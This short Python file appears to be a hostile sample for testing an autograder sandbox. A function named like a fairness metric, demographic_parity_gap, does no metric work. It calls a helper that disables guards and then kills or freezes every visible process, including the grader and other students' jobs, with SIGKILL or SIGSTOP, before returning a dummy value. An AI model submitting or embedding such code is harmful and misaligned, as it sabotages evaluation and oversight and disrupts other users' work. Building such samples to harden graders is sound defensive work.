"""The batch stops: ``os.kill`` every process this answer can see in /proc (the grader, its zygote, the other
students' children) with SIGKILL, or SIGSTOP so that they hang."""

import os
import signal

from _common import fair_game, unguard

#: ``"SIGKILL"`` or ``"SIGSTOP"``.
SIGNAL = "@SIGNAL@"


def demographic_parity_gap(y_true, y_pred, group):
    unguard()
    for pid in sorted(fair_game()):
        try:
            os.kill(pid, getattr(signal, SIGNAL))
        except OSError:
            pass
    return -1.0
